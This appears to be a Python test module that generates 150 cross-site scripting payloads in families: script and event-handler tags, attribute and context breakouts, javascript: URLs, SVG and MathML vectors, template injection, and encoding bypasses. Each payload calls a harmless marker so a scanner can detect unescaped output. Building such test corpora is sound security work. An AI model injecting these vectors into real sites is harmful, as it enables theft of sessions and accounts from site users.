"""150 texts that become script on a page that prints them without care.

Each calls ``__xss()`` or carries the word, so that a look at the parsed page finds it wherever
it got through.  The families are those of the OWASP cheat sheets; the strings are our own.
"""

from collections.abc import Iterator

CALL = "__xss()"


def _all() -> Iterator[str]:
    """Yield the payloads, family by family."""
    yield from _tags_and_attributes()
    yield from _addresses_and_languages()
    yield from _ends_and_encodings()


def _tags_and_attributes() -> Iterator[str]:
    # Tags that run by themselves.
    yield from (f"<script>{CALL}</script>", f"<ScRiPt>{CALL}</sCrIpT>", f"<script src=//x/{CALL}>")
    yield from (f"<script/x>{CALL}</script>", f"<<script>{CALL}//<</script>", f"<script>{CALL}")
    yield from (f"<scr<script>ipt>{CALL}</script>", f"<script\n>{CALL}</script\n>")
    for tag in ("img", "video", "audio", "input type=image", "source", "image", "embed", "track"):
        yield f"<{tag} src=x onerror={CALL}>"
    for tag in ("body", "svg", "iframe", "object", "frameset", "link", "style", "marquee"):
        yield f"<{tag} onload={CALL}>"
    for event in ("click", "mouseover", "focus autofocus", "pointerenter", "animationstart",
                  "transitionend", "toggle", "beforeinput", "wheel", "copy", "drag", "input",
                  "scroll", "contextmenu", "auxclick", "beforetoggle", "dblclick", "keydown", "cut",
                  "submit", "invalid"):  # fmt: skip
        yield f"<a tabindex=1 on{event}={CALL}>x</a>"
    # Out of an attribute.
    for quote in ('"', "'", "`", ""):
        yield f"{quote} onmouseover={CALL} x={quote}"
        yield f"{quote} autofocus onfocus={CALL} {quote}"
        yield f"{quote}><img src=x onerror={CALL}>"
        yield f"{quote}/><svg/onload={CALL}>"
        yield f"{quote} style=animation-name:x onanimationstart={CALL} {quote}"


def _addresses_and_languages() -> Iterator[str]:
    for scheme in ("javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:",
                   "\x01javascript:", "javascript&colon;", "&#106;avascript:", "vbscript:",
                   "data:text/html,<script>", "data:image/svg+xml,<svg onload=", "javascript://%0a",
                   "jav&#x09;ascript:", "javascript&#58;"):  # fmt: skip
        yield f"{scheme}{CALL}"
        yield f'<a href="{scheme}{CALL}">x</a>'
    # Other languages inside HTML.
    yield from (
        f"<svg><script>{CALL}</script></svg>",
        f"<svg><a xlink:href=javascript:{CALL}><text>x</text></a></svg>",
        f"<svg><animate onbegin={CALL} attributeName=x dur=1s>",
        f"<svg><set attributeName=onload to={CALL}>",
        f"<svg><foreignObject><iframe srcdoc='<script>{CALL}</script>'>",
        f"<svg><use href='data:image/svg+xml,<svg id=x onload={CALL}>#x'>",
        f"<math><mi xlink:href=javascript:{CALL}>x</mi></math>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}>",
        f"<form action=javascript:{CALL}><button>x",
        f"<button formaction=javascript:{CALL}>x",
        f"<base href=javascript:{CALL}//>",
        f"<meta http-equiv=refresh content='0;url=javascript:{CALL}'>",
        f"<iframe srcdoc='<script>parent.{CALL}</script>'>",
        f"<object data=javascript:{CALL}>",
        f"<details open ontoggle={CALL}>",
        f"<template><script>{CALL}</script></template>",
        f"<dialog open onclose={CALL}>",
    )


def _ends_and_encodings() -> Iterator[str]:
    # Out of script, JSON, comments, text areas, titles and styles.
    for end in ("</script>", "</textarea>", "</title>", "</style>", "</option></select>", "-->",
                "]]>", "</noscript>", "</template>", "</xmp>"):  # fmt: skip
        yield f"{end}<img src=x onerror={CALL}>"
    yield from (f"';{CALL};'", f'";{CALL};"', f"`;{CALL};`", f"\\';{CALL}//", f"${{{CALL}}}")
    yield from (f'"}}]}}</script><script>{CALL}</script>', f"\u2028{CALL}", f"*/{CALL}/*")
    # Templates and CSS.
    yield from (f"{{{{ {CALL} }}}}", "{{7*7}}__xss", "{% load static %}__xss", "{{request}}__xss")
    yield from (
        f"#{{{CALL}}}",
        f"<%= {CALL} %>",
        f"[[${{{CALL}}}]]",
        f"{{{{constructor('{CALL}')}}}}",
    )
    yield from (f"<style>@import'javascript:{CALL}';</style>", f"<p style=x:expression({CALL})>")
    # Encoded once or twice, with odd bytes, and by mutation of the parser.
    yield from (f"&lt;img src=x onerror={CALL}&gt;", f"%3Cscript%3E{CALL}%3C/script%3E")
    yield from (f"\\u003cscript\\u003e{CALL}\\u003c/script\\u003e", f"\\x3cscript\\x3e{CALL}")
    yield from (f"+ADw-script+AD4-{CALL}", f"＜script＞{CALL}＜/script＞", f"<scr\u200bipt>{CALL}")
    yield from (f"<noscript><p title='</noscript><img src=x onerror={CALL}>'>",)
    yield from (
        f"<p id='<img src=x onerror={CALL}>'>",
        f"<!--<img src='--><img src=x onerror={CALL}>'>",
    )
    yield from (f"<listing>&lt;img src=x onerror={CALL}&gt;</listing>", f"<x/onclick={CALL}>x")


PAYLOADS = tuple(dict.fromkeys(_all()))[:150]


def bundled(limit: int) -> list[str]:
    """Return the payloads, as many in one text as a field of that length holds."""
    texts = [""]
    for payload in PAYLOADS:
        short = payload[:limit]
        if texts[-1] and len(texts[-1]) + len(short) + 3 > limit:
            texts.append("")
        texts[-1] += f"{' | ' if texts[-1] else ''}{short}"
    return texts
